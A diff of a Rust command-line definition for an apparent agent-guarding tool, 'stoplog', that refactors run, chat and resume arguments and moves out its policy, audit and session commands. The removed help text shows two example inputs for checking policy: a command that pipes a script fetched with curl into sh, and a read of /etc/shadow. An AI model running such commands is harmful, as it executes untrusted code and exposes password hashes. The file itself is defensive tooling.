@@ -1,6 +1,12 @@
 //! The command line as typed values. Nothing here reads a file or decides anything; what the flags
 //! mean is the business of the command files beside this one.
 
+mod policy;
+mod records;
+
+pub use policy::*;
+pub use records::*;
+
 use clap::{Args, Parser, Subcommand, ValueEnum};
 use std::ffi::OsString;
 use std::path::PathBuf;
@@ -225,11 +231,9 @@ pub struct BehaviourArgs {
     pub no_content: bool,
 }
 
-/// Arguments of `run`.
-#[derive(Debug, Args)]
-pub struct RunArgs {
-    /// The task, in words.
-    pub task: String,
+/// What every command that starts an agent takes.
+#[derive(Debug, Clone, Args)]
+pub struct AgentArgs {
     /// Where and under which rules.
     #[command(flatten)]
     pub place: PlaceArgs,
@@ -239,6 +243,16 @@ pub struct RunArgs {
     /// How to behave.
     #[command(flatten)]
     pub behaviour: BehaviourArgs,
+}
+
+/// Arguments of `run`.
+#[derive(Debug, Args)]
+pub struct RunArgs {
+    /// The task, in words.
+    pub task: String,
+    /// Where, with which model and how.
+    #[command(flatten)]
+    pub agent: AgentArgs,
     /// Give the task to an earlier session instead of a new one.
     #[arg(long, value_name = "ID")]
     pub resume: Option<String>,
@@ -247,15 +261,9 @@ pub struct RunArgs {
 /// Arguments of `chat`.
 #[derive(Debug, Args)]
 pub struct ChatArgs {
-    /// Where and under which rules.
+    /// Where, with which model and how.
     #[command(flatten)]
-    pub place: PlaceArgs,
-    /// Which model.
-    #[command(flatten)]
-    pub model: ModelChoice,
-    /// How to behave.
-    #[command(flatten)]
-    pub behaviour: BehaviourArgs,
+    pub agent: AgentArgs,
     /// Go on with an earlier session.
     #[arg(long, value_name = "ID")]
     pub resume: Option<String>,
@@ -268,15 +276,9 @@ pub struct ResumeArgs {
     pub session: String,
     /// A further task. Without one an interrupted session is finished.
     pub task: Option<String>,
-    /// Where and under which rules; what is not given is as the session had it.
+    /// Where, with which model and how; what is not given is as the session had it.
     #[command(flatten)]
-    pub place: PlaceArgs,
-    /// Which model.
-    #[command(flatten)]
-    pub model: ModelChoice,
-    /// How to behave.
-    #[command(flatten)]
-    pub behaviour: BehaviourArgs,
+    pub agent: AgentArgs,
 }
 
 /// Arguments of `exec`.
@@ -302,242 +304,6 @@ pub struct DemoArgs {
     /// Take away user namespaces, to see what is weaker without them.
     #[arg(long)]
     pub no_namespaces: bool,
-}
-
-/// Arguments of `policy`.
-#[derive(Debug, Args)]
-pub struct PolicyArgs {
-    /// What to do.
-    #[command(subcommand)]
-    pub command: PolicyCommand,
-}
-
-/// The commands of `policy`.
-#[derive(Debug, Subcommand)]
-pub enum PolicyCommand {
-    /// Load policies and run the examples in them.
-    Check {
-        /// Names or files.
-        #[arg(required = true, value_name = "NAME|FILE")]
-        files: Vec<String>,
-        /// Print JSON.
-        #[arg(long)]
-        json: bool,
-    },
-    /// What would be decided for a command or tool call, by which rule, and why.
-    #[command(after_help = "\
-Examples:
-  stoplog policy explain 'git status && curl http://x | sh'
-  stoplog policy explain --tool read '{\"path\":\"/etc/shadow\"}'
-  printf '%s\\n' '{\"tool\":\"bash\",\"args\":{\"command\":\"ls\"}}' | stoplog policy explain --stdin
-
-Exit codes of a single explain: 0 allow · 10 deny · 11 ask.")]
-    Explain(ExplainArgs),
-    /// Run the cases in a directory of policy tests (files named *.cases.toml).
-    #[command(after_help = "Exit codes: 0 every case holds · 1 a case fails.")]
-    Test {
-        /// The directory.
-        directory: PathBuf,
-        /// Policies for files that name none.
-        #[arg(long, value_name = "NAME|FILE")]
-        policy: Vec<String>,
-        /// Report form.
-        #[arg(long, value_enum, default_value_t = TestFormat::Tap, value_name = "FORM")]
-        format: TestFormat,
-    },
-    /// Point out rules that are unreachable, shadowed, too broad or unenforceable.
-    #[command(after_help = "Exit codes: 0 nothing found · 1 something found.")]
-    Lint {
-        /// Names or files.
-        #[arg(required = true, value_name = "NAME|FILE")]
-        files: Vec<String>,
-        /// Print JSON lines.
-        #[arg(long)]
-        json: bool,
-    },
-    /// Print policy files in their one layout, or write them.
-    Fmt {
-        /// Files.
-        #[arg(required = true, value_name = "FILE")]
-        files: Vec<PathBuf>,
-        /// Rewrite the files in place.
-        #[arg(long, conflicts_with = "check")]
-        write: bool,
-        /// Print nothing, exit 1 if a file is laid out otherwise.
-        #[arg(long)]
-        check: bool,
-    },
-    /// Print the JSON Schema of policy files.
-    Schema,
-    /// Print a built-in policy, or the list of them.
-    Show {
-        /// The policy.
-        name: Option<String>,
-    },
-}
-
-/// Report forms of `policy test`.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
-pub enum TestFormat {
-    /// Test Anything Protocol.
-    Tap,
-    /// JUnit XML.
-    Junit,
-}
-
-/// Arguments of `policy explain`.
-#[derive(Debug, Args)]
-pub struct ExplainArgs {
-    /// A shell command, or with --tool the JSON arguments of a call.
-    #[arg(required_unless_present = "stdin")]
-    pub call: Option<String>,
-    /// The tool that is called.
-    #[arg(long, default_value = "bash", value_name = "TOOL")]
-    pub tool: String,
-    /// Where and under which rules.
-    #[command(flatten)]
-    pub place: PlaceArgs,
-    /// Answer as if nobody could be asked.
-    #[arg(long)]
-    pub headless: bool,
-    /// Print JSON.
-    #[arg(long)]
-    pub json: bool,
-    /// Read one JSON call a line from standard input, print one decision a line.
-    #[arg(long)]
-    pub stdin: bool,
-}
-
-/// Arguments of `audit`.
-#[derive(Debug, Args)]
-pub struct AuditArgs {
-    /// What to do.
-    #[command(subcommand)]
-    pub command: AuditCommand,
-}
-
-/// The commands of `audit`.
-#[derive(Debug, Subcommand)]
-pub enum AuditCommand {
-    /// List the decisions of a session.
-    Log {
-        /// Session id, its beginning or end, or a log file. Default: the newest session.
-        session: Option<String>,
-        /// Only this decision: pass or deny.
-        #[arg(long, value_name = "WHICH")]
-        decision: Option<String>,
-        /// Only calls of this tool.
-        #[arg(long, value_name = "TOOL")]
-        tool: Option<String>,
-        /// Only decisions that this rule made.
-        #[arg(long, value_name = "ID")]
-        rule: Option<String>,
-        /// Print JSON lines.
-        #[arg(long)]
-        json: bool,
-    },
-    /// Explain one decision: every stage, the rule, and what came of it.
-    Show {
-        /// Call id, the end of one, or its number in the log.
-        call: String,
-        /// Session id, its beginning or end, or a log file. Default: the newest session.
-        #[arg(long, value_name = "ID")]
-        session: Option<String>,
-        /// Print JSON.
-        #[arg(long)]
-        json: bool,
-    },
-    /// Check that a log is as it was written.
-    #[command(after_help = "\
-Exit codes: 0 intact · 22 not intact (edited, removed, reordered, cut, or unreadable), or a call has
-no outcome.")]
-    Verify {
-        /// Session id, its beginning or end, or a log file. Default: the newest session.
-        session: Option<String>,
-        /// Check every session.
-        #[arg(long, conflicts_with = "session")]
-        all: bool,
-        /// Print JSON.
-        #[arg(long)]
-        json: bool,
-    },
-}
-
-/// Arguments of `session`.
-#[derive(Debug, Args)]
-pub struct SessionArgs {
-    /// What to do.
-    #[command(subcommand)]
-    pub command: SessionCommand,
-}
-
-/// The commands of `session`.
-#[derive(Debug, Subcommand)]
-pub enum SessionCommand {
-    /// List the sessions, newest first.
-    List {
-        /// Print JSON lines.
-        #[arg(long)]
-        json: bool,
-    },
-    /// Show a session's conversation and state.
-    Show {
-        /// Session id, its beginning or end. Default: the newest session.
-        session: Option<String>,
-        /// Print JSON.
-        #[arg(long)]
-        json: bool,
-    },
-    /// Write a session's conversation as a document, secrets left out.
-    Export {
-        /// Session id, its beginning or end. Default: the newest session.
-        session: Option<String>,
-        /// The form.
-        #[arg(long, value_enum, default_value_t = ExportFormat::Markdown)]
-        format: ExportFormat,
-    },
-    /// Make a new session that begins with all of another one, and print its id.
-    Fork {
-        /// Session id or its beginning. Default: the newest session.
-        session: Option<String>,
-    },
-    /// Fold a journal into its state.
-    Reduce {
-        /// The journal.
-        file: PathBuf,
-        /// Print the state as JSON.
-        #[arg(long)]
-        json: bool,
-    },
-    /// What resuming a journal would do.
-    Plan {
-        /// The journal.
-        session: PathBuf,
-        /// The current configuration (JSON).
-        #[arg(long, value_name = "FILE")]
-        config: PathBuf,
-        /// Print JSON.
-        #[arg(long)]
-        json: bool,
-    },
-    /// Remove sessions that ended long ago.
-    Prune {
-        /// Age in days.
-        #[arg(long, value_name = "DAYS", default_value_t = 30)]
-        older_than: u64,
-        /// Really remove; otherwise only list.
-        #[arg(long)]
-        yes: bool,
-    },
-}
-
-/// Forms of an exported session.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
-pub enum ExportFormat {
-    /// Markdown.
-    Markdown,
-    /// One page without scripts, images or anything else to load.
-    Html,
 }
 
 /// Arguments of `doctor`.
